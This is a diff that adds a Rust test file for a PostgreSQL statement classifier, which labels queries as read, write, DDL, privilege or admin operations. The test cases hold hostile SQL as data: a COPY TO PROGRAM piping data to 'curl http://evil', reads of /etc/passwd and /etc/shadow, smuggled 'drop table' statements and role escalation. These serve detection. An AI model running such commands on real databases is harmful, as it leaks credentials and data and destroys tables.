@@ -1,0 +1,611 @@
+use super::*;
+use std::sync::Arc;
+
+/// `(sql, commands, classes, reads, writes, functions, no_where)`.
+///
+/// Commands are the statements' commands joined with "; "; classes, reads,
+/// writes and functions are space-separated and compared with the union over
+/// all statements of the string.
+type Case = (
+    &'static str,
+    &'static str,
+    &'static str,
+    &'static str,
+    &'static str,
+    &'static str,
+    bool,
+);
+
+#[rustfmt::skip]
+const CASES: &[Case] = &[
+    // ---- reads
+    ("select 1", "SELECT", "read", "", "", "", false),
+    ("SELECT * FROM users", "SELECT", "read", "users", "", "", false),
+    ("select * from public.users u join orders o on o.uid = u.id", "SELECT", "read", "orders public.users", "", "", false),
+    ("values (1), (2)", "SELECT", "read", "", "", "", false),
+    ("table users", "SELECT", "read", "users", "", "", false),
+    ("select count(*) from users where id in (select uid from orders)", "SELECT", "read", "orders users", "", "count", false),
+    ("select * from users where exists (select 1 from audit.log l where l.uid = users.id)", "SELECT", "read", "audit.log users", "", "", false),
+    ("select a from t1 union select b from t2 except select c from t3", "SELECT", "read", "t1 t2 t3", "", "", false),
+    ("select * from users, lateral (select * from orders where orders.uid = users.id) o", "SELECT", "read", "orders users", "", "", false),
+    ("select * from generate_series(1, 10)", "SELECT", "read", "", "", "generate_series", false),
+    ("select lower(email) from users", "SELECT", "read", "users", "", "lower", false),
+    ("select case when x > 0 then (select max(y) from t2) end from t1", "SELECT", "read", "t1 t2", "", "max", false),
+    ("select * from t1 where x = any(array(select y from t2))", "SELECT", "read", "t1 t2", "", "", false),
+    ("select json_agg(u) from (select * from users) u", "SELECT", "read", "users", "", "json_agg", false),
+    ("select * from only parent", "SELECT", "read", "parent", "", "", false),
+    // Identifiers: unquoted fold to lowercase, quoted keep their case.
+    ("select * from \"Users\"", "SELECT", "read", "Users", "", "", false),
+    ("select * from USERS", "SELECT", "read", "users", "", "", false),
+    ("select * from \"MySchema\".\"Users\"", "SELECT", "read", "MySchema.Users", "", "", false),
+    ("select * from mydb.public.users", "SELECT", "read", "public.users", "", "", false),
+    ("show search_path", "SHOW", "read utility", "", "", "", false),
+    // CTE names are not tables, but only where they are in scope.
+    ("with recent as (select * from orders) select * from recent", "SELECT", "read", "orders", "", "", false),
+    ("with users as (select * from users) select * from users", "SELECT", "read", "users", "", "", false),
+    ("select * from (with users as (select 1 as id) select * from users) x, users", "SELECT", "read", "users", "", "", false),
+    ("with a as (select * from b), b as (select * from a) select * from b", "SELECT", "read", "b", "", "", false),
+    ("with recursive t(n) as (select 1 union all select n + 1 from t where n < 10) select * from t", "SELECT", "read", "", "", "", false),
+    // Row locks.
+    ("select * from t for update", "SELECT FOR UPDATE", "read write", "t", "", "", false),
+    ("select * from t for share", "SELECT FOR SHARE", "read write", "t", "", "", false),
+    ("select * from a join b on true for update of a nowait", "SELECT FOR UPDATE", "read write", "a b", "", "", false),
+    ("select * from t for key share skip locked", "SELECT FOR KEY SHARE", "read write", "t", "", "", false),
+
+    // ---- comments, casing, quoting, statement boundaries
+    ("/* delete from t */ select 1", "SELECT", "read", "", "", "", false),
+    ("select 1 -- ; drop table t", "SELECT", "read", "", "", "", false),
+    ("select /* ; drop table t; */ 1 from t", "SELECT", "read", "t", "", "", false),
+    ("select 'a; drop table t'", "SELECT", "read", "", "", "", false),
+    // Standard strings: the backslash is literal, '' is a quote: one statement.
+    ("select '\\'' ; drop table t; --'", "SELECT", "read", "", "", "", false),
+    // E'' strings: \' is a quote, so the string ends and a DROP follows.
+    ("select E'\\'' ; drop table t; --'", "SELECT; DROP TABLE", "read ddl", "", "t", "", false),
+    ("select E'\\' ; drop table t; --'", "SELECT", "read", "", "", "", false),
+    ("select $$ ; drop table t; $$", "SELECT", "read", "", "", "", false),
+    ("select $tag$ it's $$ ; drop table t; $tag$ from t2", "SELECT", "read", "t2", "", "", false),
+    ("DeLeTe FrOm UsErS wHeRe id = 1", "DELETE", "write", "", "users", "", false),
+    ("select 1; drop table t", "SELECT; DROP TABLE", "read ddl", "", "t", "", false),
+    ("select 1;\n-- comment\nupdate t set a = 1;", "SELECT; UPDATE", "read write", "", "t", "", true),
+
+    // ---- data changes
+    ("insert into users (name) values ('a')", "INSERT", "write", "", "users", "", false),
+    ("insert into archive select * from users where created < now()", "INSERT", "read write", "users", "archive", "now", false),
+    ("insert into t values (1) on conflict (id) do update set v = excluded.v", "INSERT", "write", "", "t", "", false),
+    ("insert into t values ((select max(id) from t2)) returning *", "INSERT", "read write", "t2", "t", "max", false),
+    ("update users set name = 'x' where id = 1", "UPDATE", "write", "", "users", "", false),
+    ("update users set name = 'x'", "UPDATE", "write", "", "users", "", true),
+    ("update users set score = (select max(score) from scores) where id = 1", "UPDATE", "read write", "scores", "users", "max", false),
+    ("update users u set name = o.name from orders o where o.uid = u.id", "UPDATE", "read write", "orders", "users", "", false),
+    ("delete from users", "DELETE", "write", "", "users", "", true),
+    ("delete from users where id = 1", "DELETE", "write", "", "users", "", false),
+    ("delete from users using orders where orders.uid = users.id", "DELETE", "read write", "orders", "users", "", false),
+    ("delete from t where current of c", "DELETE", "write", "", "t", "", false),
+    ("merge into target t using source s on t.id = s.id when matched then update set v = s.v when not matched then insert values (s.id, s.v)", "MERGE", "read write", "source", "target", "", false),
+    ("merge into t using (select * from s) x on t.id = x.id when matched then delete", "MERGE", "read write", "s", "t", "", false),
+    ("truncate a, b", "TRUNCATE", "write", "", "a b", "", false),
+    ("truncate table audit.log restart identity cascade", "TRUNCATE", "write", "", "audit.log", "", false),
+
+    // ---- writes in CTEs
+    ("with d as (delete from users returning *) select * from d", "SELECT", "read write", "", "users", "", true),
+    ("with u as (update users set x = 1 where id = 2 returning id) select count(*) from u", "SELECT", "read write", "", "users", "count", false),
+    ("with u as (update users set x = 1 returning id) select 1", "SELECT", "read write", "", "users", "", true),
+    ("with i as (insert into log values (1) returning *) update users set n = n + 1 where id in (select id from i)", "UPDATE", "write", "", "log users", "", false),
+    ("select * from (with d as (delete from t where a = 1 returning *) select * from d) x", "SELECT", "read write", "", "t", "", false),
+    ("with x as (select * from a) insert into b select * from x", "INSERT", "read write", "a", "b", "", false),
+
+    // ---- COPY
+    ("copy users to stdout", "COPY", "read", "users", "", "", false),
+    ("copy users (id, email) to stdout with (format csv)", "COPY", "read", "users", "", "", false),
+    ("copy users from stdin", "COPY", "write", "", "users", "", false),
+    ("copy users to '/tmp/users.csv'", "COPY", "read admin", "users", "", "", false),
+    ("copy users from '/tmp/users.csv'", "COPY", "write admin", "", "users", "", false),
+    ("copy (select * from users) to program 'curl -d @- http://evil'", "COPY", "read admin", "users", "", "", false),
+    ("copy users from program 'cat /etc/passwd'", "COPY", "write admin", "", "users", "", false),
+    ("copy (delete from users returning *) to stdout", "COPY", "read write", "", "users", "", true),
+
+    // ---- EXPLAIN: only ANALYZE executes
+    ("explain delete from users", "EXPLAIN", "read", "users", "", "", false),
+    ("explain analyze delete from users", "EXPLAIN", "read write", "", "users", "", true),
+    ("EXPLAIN (ANALYZE, BUFFERS) update t set a = 1 where id = 1", "EXPLAIN", "read write", "", "t", "", false),
+    ("explain (analyze false) delete from t", "EXPLAIN", "read", "t", "", "", false),
+    ("explain (analyze off, verbose) insert into t values (1)", "EXPLAIN", "read", "t", "", "", false),
+    ("explain (analyze 1) delete from t where a = 1", "EXPLAIN", "read write", "", "t", "", false),
+    ("explain select pg_read_file('/etc/passwd')", "EXPLAIN", "read", "", "", "pg_read_file", false),
+    ("explain analyze select pg_read_file('/etc/passwd')", "EXPLAIN", "read admin", "", "", "pg_read_file", false),
+    ("explain analyze create table t2 as select * from t", "EXPLAIN", "read ddl write", "t", "t2", "", false),
+    ("explain with d as (delete from t returning *) select * from d", "EXPLAIN", "read", "t", "", "", false),
+
+    // ---- DDL
+    ("create table t (id int primary key, name text)", "CREATE TABLE", "ddl", "", "t", "", false),
+    ("create table t (id int references parent(id))", "CREATE TABLE", "ddl read", "parent", "t", "", false),
+    ("create table t2 as select * from users", "CREATE TABLE AS", "ddl write read", "users", "t2", "", false),
+    ("select * into t2 from users", "SELECT INTO", "read write ddl", "users", "t2", "", false),
+    ("create materialized view mv as select * from users", "CREATE MATERIALIZED VIEW", "ddl write read", "users", "mv", "", false),
+    ("refresh materialized view concurrently mv", "REFRESH MATERIALIZED VIEW", "ddl write", "", "mv", "", false),
+    ("create view v as select id from users", "CREATE VIEW", "ddl read", "users", "v", "", false),
+    ("create index concurrently on users (email)", "CREATE INDEX", "ddl", "", "users", "", false),
+    ("alter table users add column age int", "ALTER TABLE", "ddl", "", "users", "", false),
+    ("alter table users owner to mallory", "ALTER TABLE", "ddl dcl", "", "users", "", false),
+    ("alter table users disable row level security", "ALTER TABLE", "ddl dcl", "", "users", "", false),
+    ("alter table users rename to people", "ALTER TABLE", "ddl", "", "users", "", false),
+    ("drop table users, audit.log cascade", "DROP TABLE", "ddl", "", "audit.log users", "", false),
+    ("drop view if exists v", "DROP VIEW", "ddl", "", "v", "", false),
+    ("drop schema audit cascade", "DROP SCHEMA", "ddl", "", "", "", false),
+    ("drop function f(int)", "DROP FUNCTION", "ddl", "", "", "", false),
+    ("comment on table users is 'people'", "COMMENT", "ddl", "", "users", "", false),
+    ("create function f() returns int language sql as $$ delete from t; select 1 $$", "CREATE FUNCTION", "ddl", "", "", "", false),
+    ("create procedure p() language sql begin atomic delete from t; end", "CREATE PROCEDURE", "ddl write", "", "t", "", true),
+    ("create extension dblink", "CREATE EXTENSION", "ddl admin", "", "", "", false),
+    ("create schema s create table s.t (a int)", "CREATE SCHEMA", "ddl", "", "s.t", "", false),
+    ("create sequence s", "CREATE SEQUENCE", "ddl", "", "s", "", false),
+    ("create trigger trg after insert on t for each row execute function f()", "CREATE TRIGGER", "ddl", "", "t", "", false),
+    ("create rule r as on insert to t do instead delete from audit.log", "CREATE RULE", "ddl write", "", "audit.log t", "", true),
+    ("create table t (id int default nextval('s'))", "CREATE TABLE", "ddl write", "", "t", "nextval", false),
+    ("alter system set log_statement = 'none'", "ALTER SYSTEM", "ddl admin", "", "", "", false),
+    ("create database d", "CREATE DATABASE", "ddl admin", "", "", "", false),
+    ("alter database d set search_path = x", "ALTER DATABASE", "ddl admin utility", "", "", "", false),
+    ("create server s foreign data wrapper postgres_fdw options (host 'evil')", "CREATE SERVER", "ddl admin", "", "", "", false),
+    ("create policy p on t using (true)", "CREATE POLICY", "ddl dcl", "", "t", "", false),
+    ("create type mood as enum ('sad', 'ok')", "CREATE TYPE", "ddl", "", "", "", false),
+
+    // ---- maintenance
+    ("vacuum full users", "VACUUM", "admin", "", "users", "", false),
+    ("analyze users", "ANALYZE", "admin", "", "users", "", false),
+    ("reindex table users", "REINDEX", "ddl admin", "", "users", "", false),
+    ("cluster users using users_pkey", "CLUSTER", "ddl admin", "", "users", "", false),
+    ("checkpoint", "CHECKPOINT", "admin", "", "", "", false),
+
+    // ---- privileges and roles
+    ("grant select on users to agent", "GRANT", "dcl", "", "users", "", false),
+    ("revoke all on all tables in schema public from agent", "REVOKE", "dcl", "", "", "", false),
+    ("grant pg_read_server_files to agent", "GRANT", "dcl", "", "", "", false),
+    ("create role r login password 'x'", "CREATE ROLE", "dcl", "", "", "", false),
+    ("create user u", "CREATE USER", "dcl", "", "", "", false),
+    ("alter role agent superuser", "ALTER ROLE", "dcl", "", "", "", false),
+    ("alter user agent set search_path = x", "ALTER ROLE", "dcl utility", "", "", "", false),
+    ("drop role r", "DROP ROLE", "dcl", "", "", "", false),
+    ("alter default privileges in schema s grant select on tables to r", "ALTER DEFAULT PRIVILEGES", "dcl", "", "", "", false),
+    ("reassign owned by a to b", "REASSIGN OWNED", "dcl", "", "", "", false),
+    ("security label on table t is 'x'", "SECURITY LABEL", "dcl", "", "t", "", false),
+    ("set role admin", "SET", "utility dcl", "", "", "", false),
+    ("SET SESSION AUTHORIZATION 'postgres'", "SET", "utility dcl", "", "", "", false),
+    ("set local \"ROLE\" = admin", "SET", "utility dcl", "", "", "", false),
+    ("reset role", "RESET", "utility dcl", "", "", "", false),
+
+    // ---- transactions
+    ("begin", "BEGIN", "tx", "", "", "", false),
+    ("start transaction read only", "START TRANSACTION", "tx", "", "", "", false),
+    ("commit", "COMMIT", "tx", "", "", "", false),
+    ("rollback", "ROLLBACK", "tx", "", "", "", false),
+    ("savepoint s", "SAVEPOINT", "tx", "", "", "", false),
+    ("release savepoint s", "RELEASE", "tx", "", "", "", false),
+    ("rollback to savepoint s", "ROLLBACK TO SAVEPOINT", "tx", "", "", "", false),
+    ("prepare transaction 'x'", "PREPARE TRANSACTION", "tx", "", "", "", false),
+    ("commit prepared 'x'", "COMMIT PREPARED", "tx", "", "", "", false),
+    ("set transaction read write", "SET", "utility tx", "", "", "", false),
+    ("set default_transaction_read_only = off", "SET", "utility tx", "", "", "", false),
+    ("begin; delete from t; commit", "BEGIN; DELETE; COMMIT", "tx write", "", "t", "", true),
+
+    // ---- session utilities
+    ("set search_path = audit, public", "SET", "utility", "", "", "", false),
+    ("set statement_timeout = '5s'", "SET", "utility", "", "", "", false),
+    ("set session_replication_role = replica", "SET", "utility admin", "", "", "", false),
+    // Settings that would make the server split later statements differently
+    // from this parser (verified against PostgreSQL 15: with SJIS or
+    // standard_conforming_strings off, one statement here runs as two there).
+    ("set client_encoding = 'SJIS'", "SET", "utility admin", "", "", "", false),
+    ("set names 'BIG5'", "SET", "utility admin", "", "", "", false),
+    ("set names 'UTF8'", "SET", "utility", "", "", "", false),
+    ("set client_encoding to 'utf-8'", "SET", "utility", "", "", "", false),
+    ("set client_encoding to default", "SET", "utility", "", "", "", false),
+    ("reset client_encoding", "RESET", "utility", "", "", "", false),
+    ("set standard_conforming_strings = off", "SET", "utility admin", "", "", "", false),
+    ("set standard_conforming_strings = 0", "SET", "utility admin", "", "", "", false),
+    ("set standard_conforming_strings to on", "SET", "utility", "", "", "", false),
+    ("alter role agent set standard_conforming_strings = off", "ALTER ROLE", "dcl utility admin", "", "", "", false),
+    ("select set_config('client_encoding', 'SJIS', false)", "SELECT", "read utility dcl admin", "", "", "set_config", false),
+    ("reset all", "RESET", "utility dcl", "", "", "", false),
+    ("discard all", "DISCARD", "utility dcl", "", "", "", false),
+    ("discard plans", "DISCARD", "utility", "", "", "", false),
+    ("listen ch", "LISTEN", "utility", "", "", "", false),
+    ("notify ch, 'x'", "NOTIFY", "utility", "", "", "", false),
+    ("unlisten *", "UNLISTEN", "utility", "", "", "", false),
+    ("declare c cursor for select * from users", "DECLARE CURSOR", "read utility", "users", "", "", false),
+    ("declare c cursor for select * from users for update", "DECLARE CURSOR", "read write utility", "users", "", "", false),
+    ("fetch 10 from c", "FETCH", "utility", "", "", "", false),
+    ("move next in c", "MOVE", "utility", "", "", "", false),
+    ("close c", "CLOSE CURSOR", "utility", "", "", "", false),
+    ("lock table users in access exclusive mode", "LOCK TABLE", "utility write", "", "users", "", false),
+    ("load 'auto_explain'", "LOAD", "utility admin", "", "", "", false),
+
+    // ---- DO, CALL, prepared statements
+    ("do $$ begin delete from users; end $$", "DO", "read write ddl dcl tx utility admin", "", "", "", false),
+    ("call archive_users(30)", "CALL", "write", "", "", "archive_users", false),
+    ("call s.p(nextval('q'))", "CALL", "write", "", "", "nextval s.p", false),
+    ("prepare p as delete from users where id = $1", "PREPARE", "write", "", "users", "", false),
+    ("prepare q (int) as select * from users where id = $1", "PREPARE", "read", "users", "", "", false),
+    ("prepare r as with d as (delete from t returning *) select * from d", "PREPARE", "read write", "", "t", "", true),
+    ("execute p(1)", "EXECUTE", "", "", "", "", false),
+    ("execute p(pg_read_file('/etc/passwd'))", "EXECUTE", "read admin", "", "", "pg_read_file", false),
+    ("deallocate p", "DEALLOCATE", "utility", "", "", "", false),
+    ("explain execute p(1)", "EXPLAIN", "read", "", "", "", false),
+    ("create table t2 as execute p(1)", "CREATE TABLE AS", "ddl write", "", "t2", "", false),
+
+    // ---- side-effect functions, wherever they are nested
+    ("select dblink_exec('host=x', 'drop table t')", "SELECT", "read write admin", "", "", "dblink_exec", false),
+    ("select * from dblink('host=x', 'select 1') as t(a int)", "SELECT", "read write admin", "", "", "dblink", false),
+    ("select public.dblink_exec('x', 'y')", "SELECT", "read write admin", "", "", "public.dblink_exec", false),
+    ("select lower(pg_read_file('/etc/passwd'))", "SELECT", "read admin", "", "", "lower pg_read_file", false),
+    ("select * from users where name = (select pg_catalog.pg_read_file('x'))", "SELECT", "read admin", "users", "", "pg_catalog.pg_read_file", false),
+    ("select lo_import('/etc/passwd')", "SELECT", "read write admin", "", "", "lo_import", false),
+    ("select lo_export(1234, '/tmp/x')", "SELECT", "read write admin", "", "", "lo_export", false),
+    ("select lo_unlink(1234)", "SELECT", "read write", "", "", "lo_unlink", false),
+    ("select set_config('role', 'admin', false)", "SELECT", "read utility dcl admin", "", "", "set_config", false),
+    ("select pg_catalog.set_config('search_path', '', false)", "SELECT", "read utility dcl admin", "", "", "pg_catalog.set_config", false),
+    ("select nextval('seq')", "SELECT", "read write", "", "", "nextval", false),
+    ("select setval('seq', 1)", "SELECT", "read write", "", "", "setval", false),
+    ("select pg_terminate_backend(pid) from pg_stat_activity", "SELECT", "read admin", "pg_stat_activity", "", "pg_terminate_backend", false),
+    ("select pg_reload_conf()", "SELECT", "read admin", "", "", "pg_reload_conf", false),
+    ("select pg_ls_dir('.')", "SELECT", "read admin", "", "", "pg_ls_dir", false),
+    ("select pg_sleep(1)", "SELECT", "read", "", "", "pg_sleep", false),
+    ("select PG_READ_FILE('x')", "SELECT", "read admin", "", "", "pg_read_file", false),
+    ("select \"PG_READ_FILE\"('x')", "SELECT", "read admin", "", "", "PG_READ_FILE", false),
+    ("select query_to_xml('select * from secrets', true, true, '')", "SELECT", "read admin", "", "", "query_to_xml", false),
+    ("select count(*) filter (where nextval('s') > 0) from t", "SELECT", "read write", "t", "", "count nextval", false),
+    ("select sum(x) over (order by nextval('s')) from t", "SELECT", "read write", "t", "", "nextval sum", false),
+    ("select coalesce(null, pg_read_file('x'))", "SELECT", "read admin", "", "", "pg_read_file", false),
+    ("insert into t select lo_unlink(oid) from pg_largeobject_metadata", "INSERT", "read write", "pg_largeobject_metadata", "t", "lo_unlink", false),
+    ("select * from t where id = any(array(select setval('s', 1)))", "SELECT", "read write", "t", "", "setval", false),
+    ("select (select dblink_exec('x', 'y'))", "SELECT", "read write admin", "", "", "dblink_exec", false),
+    ("select json_build_object('a', pg_ls_dir('.'))", "SELECT", "read admin", "", "", "json_build_object pg_ls_dir", false),
+    ("select * from t order by pg_read_file('x')", "SELECT", "read admin", "t", "", "pg_read_file", false),
+    ("select 1 from t group by 1 having max(pg_read_file('x')) > ''", "SELECT", "read admin", "t", "", "max pg_read_file", false),
+    ("select * from t limit (select setval('s', 5))", "SELECT", "read write", "t", "", "setval", false),
+    ("select * from t1 join t2 on t1.id = nextval('s')", "SELECT", "read write", "t1 t2", "", "nextval", false),
+    ("select x from t where x in (values (pg_read_file('a')))", "SELECT", "read admin", "t", "", "pg_read_file", false),
+    ("select * from xmltable('/a' passing (select pg_read_file('x')::xml) columns a text)", "SELECT", "read admin", "", "", "pg_read_file", false),
+    ("update t set a = pg_read_file('x') where id = 1", "UPDATE", "read write admin", "", "t", "pg_read_file", false),
+    ("select 1 from t where exists (select lo_import('/etc/shadow'))", "SELECT", "read write admin", "t", "", "lo_import", false),
+];
+
+fn set(s: &str) -> BTreeSet<String> {
+    s.split_whitespace().map(str::to_owned).collect()
+}
+
+fn classes(s: &str) -> BTreeSet<SqlClass> {
+    s.split_whitespace()
+        .map(|c| SqlClass::parse(c).unwrap_or_else(|| panic!("bad class {c}")))
+        .collect()
+}
+
+#[test]
+fn classification_table() {
+    assert!(CASES.len() >= 100, "{} cases", CASES.len());
+    let mut failures = Vec::new();
+    for &(sql, command, want_classes, reads, writes, functions, no_where) in CASES {
+        let got = match classify(sql) {
+            Ok(c) => c,
+            Err(e) => {
+                failures.push(format!("{sql:?}: error {e}"));
+                continue;
+            }
+        };
+        let s = &got.statements;
+        let got_command = s
+            .iter()
+            .map(|s| s.command.as_str())
+            .collect::<Vec<_>>()
+            .join("; ");
+        let union = |f: fn(&StatementInfo) -> &BTreeSet<String>| -> BTreeSet<String> {
+            s.iter().flat_map(|s| f(s).iter().cloned()).collect()
+        };
+        let got_reads = union(|s| &s.reads);
+        let got_writes = union(|s| &s.writes);
+        let got_functions = union(|s| &s.functions);
+        let got_no_where = s.iter().any(|s| s.no_where);
+        let mut problems = Vec::new();
+        if got_command != command {
+            problems.push(format!("command {got_command:?} != {command:?}"));
+        }
+        if got.classes() != classes(want_classes) {
+            problems.push(format!(
+                "classes {:?} != {:?}",
+                got.classes(),
+                classes(want_classes)
+            ));
+        }
+        if got_reads != set(reads) {
+            problems.push(format!("reads {got_reads:?} != {:?}", set(reads)));
+        }
+        if got_writes != set(writes) {
+            problems.push(format!("writes {got_writes:?} != {:?}", set(writes)));
+        }
+        if got_functions != set(functions) {
+            problems.push(format!(
+                "functions {got_functions:?} != {:?}",
+                set(functions)
+            ));
+        }
+        if got_no_where != no_where {
+            problems.push(format!("no_where {got_no_where} != {no_where}"));
+        }
+        if !problems.is_empty() {
+            failures.push(format!("{sql:?}:\n    {}", problems.join("\n    ")));
+        }
+    }
+    assert!(
+        failures.is_empty(),
+        "{} of {} cases failed:\n{}",
+        failures.len(),
+        CASES.len(),
+        failures.join("\n")
+    );
+}
+
+#[test]
+fn unparseable_input_is_an_error() {
+    for sql in [
+        "selec 1",
+        "select 'abc",
+        "select \"abc",
+        "select $$abc",
+        "select * from",
+        "delete users",
+        "select 1; selec 2",
+        "select /* unterminated",
+        "select 1\0; drop table t",
+    ] {
+        match classify(sql) {
+            Err(ClassifyError::Parse(_)) => {}
+            other => panic!("{sql:?}: expected a parse error, got {other:?}"),
+        }
+    }
+}
+
+#[test]
+fn empty_input_has_no_statements() {
+    for sql in [
+        "",
+        "   \n\t",
+        "-- only a comment",
+        "/* only */ /* comments */",
+        ";",
+        " ; ;; ",
+    ] {
+        let c = classify(sql).unwrap_or_else(|e| panic!("{sql:?}: {e}"));
+        assert!(c.statements.is_empty(), "{sql:?}: {c:?}");
+    }
+}
+
+#[test]
+fn multi_statement_strings_are_split_per_statement() {
+    let c = classify("select * from a; /* ; */ delete from b; select $$;$$").unwrap();
+    let commands: Vec<&str> = c.statements.iter().map(|s| s.command.as_str()).collect();
+    assert_eq!(commands, ["SELECT", "DELETE", "SELECT"]);
+    assert_eq!(c.statements[0].classes, classes("read"));
+    assert_eq!(c.statements[1].classes, classes("write"));
+    assert!(c.statements[1].no_where);
+    assert!(!c.statements[0].no_where && !c.statements[2].no_where);
+    assert_eq!(c.statements[1].writes, set("b"));
+}
+
+#[test]
+fn prepare_records_name_and_inner_text() {
+    let cases = [
+        (
+            "prepare p (int) as delete from users where id = $1",
+            "p",
+            "delete from users where id = $1",
+        ),
+        (
+            "/* as */ PREPARE \"As\" AS select 'as' as as_",
+            "As",
+            "select 'as' as as_",
+        ),
+        (
+            "prepare p(text, numeric(10,2)) as\n  select $1, $2",
+            "p",
+            "select $1, $2",
+        ),
+        (
+            "select 1; prepare q as insert into t values (1); execute q",
+            "q",
+            "insert into t values (1)",
+        ),
+        // Offsets are bytes: multibyte text before and inside the statement.
+        (
+            "select 'é€😀'; prepare ü as select 'ü' as \"ö\"",
+            "ü",
+            "select 'ü' as \"ö\"",
+        ),
+    ];
+    for (sql, name, body) in cases {
+        let c = classify(sql).unwrap();
+        let prepared: Vec<_> = c
+            .statements
+            .iter()
+            .filter_map(|s| s.prepares.clone())
+            .collect();
+        assert_eq!(prepared, [(name.to_owned(), body.to_owned())], "{sql:?}");
+        // The recorded text classifies like the PREPARE it came from.
+        let inner = classify(body).unwrap();
+        let prepare = c.statements.iter().find(|s| s.prepares.is_some()).unwrap();
+        assert_eq!(inner.classes(), prepare.classes, "{sql:?}");
+    }
+}
+
+#[test]
+fn execute_and_deallocate() {
+    let c = classify("execute p(1); deallocate p; deallocate all; deallocate prepare q").unwrap();
+    let s = &c.statements;
+    assert_eq!(s[0].executes.as_deref(), Some("p"));
+    assert!(s[0].classes.is_empty());
+    assert_eq!(s[1].deallocates, Some(Some("p".to_owned())));
+    assert_eq!(s[2].deallocates, Some(None));
+    assert_eq!(s[3].deallocates, Some(Some("q".to_owned())));
+    assert_eq!(s[1].executes, None);
+    // EXECUTE inside EXPLAIN ANALYZE or CREATE TABLE AS still names it.
+    for sql in [
+        "explain analyze execute p",
+        "create table t as execute p(2)",
+    ] {
+        let c = classify(sql).unwrap();
+        assert_eq!(c.statements[0].executes.as_deref(), Some("p"), "{sql}");
+    }
+}
+
+#[test]
+fn class_names_round_trip() {
+    for c in SqlClass::ALL {
+        assert_eq!(SqlClass::parse(c.name()), Some(c));
+        assert_eq!(SqlClass::parse(&c.name().to_uppercase()), Some(c));
+    }
+    assert_eq!(SqlClass::parse("transaction"), Some(SqlClass::Tx));
+    assert_eq!(SqlClass::parse("nope"), None);
+}
+
+#[test]
+fn deeply_nested_input_fails_closed() {
+    let too_deep =
+        ClassifyError::Unsupported("the statement is nested too deeply to classify".into());
+    // Within the limits: long operator chains, nested subqueries, flat lists.
+    let ok = [
+        format!("select {}1", "a || ".repeat(40)),
+        format!("select {}1{}", "(select ".repeat(10), ")".repeat(10)),
+        format!(
+            "select * from t where {}",
+            (0..2000)
+                .map(|i| format!("a = {i}"))
+                .collect::<Vec<_>>()
+                .join(" or ")
+        ),
+        format!(
+            "select 1 from t where a in ({})",
+            (0..5000)
+                .map(|i| i.to_string())
+                .collect::<Vec<_>>()
+                .join(",")
+        ),
+    ];
+    for sql in &ok {
+        assert!(classify(sql).is_ok(), "{}", &sql[..60]);
+    }
+    // Beyond them: an error, never a crash or a silent pass.
+    let deep = [
+        format!("select {}1", "a || ".repeat(60)),
+        format!("select {}1", "1 + ".repeat(20_000)),
+        format!("select {}1{}", "(select ".repeat(30), ")".repeat(30)),
+        format!("select {}1{}", "(select ".repeat(500), ")".repeat(500)),
+    ];
+    for sql in &deep {
+        assert_eq!(classify(sql), Err(too_deep.clone()), "{}", &sql[..60]);
+    }
+    // Deeper than the grammar's own stack: the server refuses it too.
+    let grammar = format!("select {}1{}", "array[".repeat(5_000), "]".repeat(5_000));
+    assert!(matches!(classify(&grammar), Err(ClassifyError::Parse(_))));
+}
+
+#[test]
+fn side_effect_table_is_lowercase_and_unique() {
+    let mut seen = BTreeSet::new();
+    for (name, classes) in SIDE_EFFECT_FUNCTIONS {
+        assert_eq!(*name, name.to_lowercase());
+        assert!(seen.insert(*name), "{name} twice");
+        assert!(!classes.is_empty(), "{name} adds nothing");
+    }
+}
+
+#[test]
+fn cache_returns_the_same_classification_and_caches_errors() {
+    let cache = ClassifierCache::new(8);
+    let a = cache.classify("select * from t").unwrap();
+    let b = cache.classify("select * from t").unwrap();
+    assert!(Arc::ptr_eq(&a, &b));
+    assert_eq!(cache.len(), 1);
+    let e1 = cache.classify("selec 1").unwrap_err();
+    let e2 = cache.classify("selec 1").unwrap_err();
+    assert_eq!(e1, e2);
+    assert_eq!(cache.len(), 2);
+}
+
+#[test]
+fn cache_is_bounded_and_keeps_hot_entries() {
+    let cache = ClassifierCache::new(10);
+    let hot = cache.classify("select 1").unwrap();
+    for i in 0..100 {
+        cache.classify(&format!("select {i} from t")).unwrap();
+        // Touch the hot entry so it keeps moving to the recent generation.
+        assert!(Arc::ptr_eq(&hot, &cache.classify("select 1").unwrap()));
+        assert!(cache.len() <= 10, "{}", cache.len());
+    }
+}
+
+#[test]
+fn cache_is_shared_across_threads() {
+    let cache = Arc::new(ClassifierCache::new(64));
+    let handles: Vec<_> = (0..4)
+        .map(|i| {
+            let cache = cache.clone();
+            std::thread::spawn(move || {
+                for j in 0..50 {
+                    let c = cache
+                        .classify(&format!("delete from t{} where id = {}", j % 5, i))
+                        .unwrap();
+                    assert_eq!(c.statements[0].classes, classes("write"));
+                }
+            })
+        })
+        .collect();
+    for h in handles {
+        h.join().unwrap();
+    }
+    assert!(cache.len() <= 64);
+}
+
+/// Every statement type of pg_query 18's tree.
+#[rustfmt::skip]
+const STATEMENT_TYPES: &[&str] = &[
+    "AlterCollationStmt", "AlterDatabaseRefreshCollStmt", "AlterDatabaseSetStmt",
+    "AlterDatabaseStmt", "AlterDefaultPrivilegesStmt", "AlterDomainStmt", "AlterEnumStmt",
+    "AlterEventTrigStmt", "AlterExtensionContentsStmt", "AlterExtensionStmt", "AlterFdwStmt",
+    "AlterForeignServerStmt", "AlterFunctionStmt", "AlterObjectDependsStmt",
+    "AlterObjectSchemaStmt", "AlterOpFamilyStmt", "AlterOperatorStmt", "AlterOwnerStmt",
+    "AlterPolicyStmt", "AlterPublicationStmt", "AlterRoleSetStmt", "AlterRoleStmt",
+    "AlterSeqStmt", "AlterStatsStmt", "AlterSubscriptionStmt", "AlterSystemStmt",
+    "AlterTableMoveAllStmt", "AlterTableSpaceOptionsStmt", "AlterTableStmt",
+    "AlterTsconfigurationStmt", "AlterTsdictionaryStmt", "AlterTypeStmt",
+    "AlterUserMappingStmt", "CallStmt", "CheckPointStmt", "ClosePortalStmt", "ClusterStmt",
+    "CommentStmt", "CompositeTypeStmt", "ConstraintsSetStmt", "CopyStmt", "CreateAmStmt",
+    "CreateCastStmt", "CreateConversionStmt", "CreateDomainStmt", "CreateEnumStmt",
+    "CreateEventTrigStmt", "CreateExtensionStmt", "CreateFdwStmt", "CreateForeignServerStmt",
+    "CreateForeignTableStmt", "CreateFunctionStmt", "CreateOpClassStmt", "CreateOpFamilyStmt",
+    "CreatePlangStmt", "CreatePolicyStmt", "CreatePublicationStmt", "CreateRangeStmt",
+    "CreateRoleStmt", "CreateSchemaStmt", "CreateSeqStmt", "CreateStatsStmt", "CreateStmt",
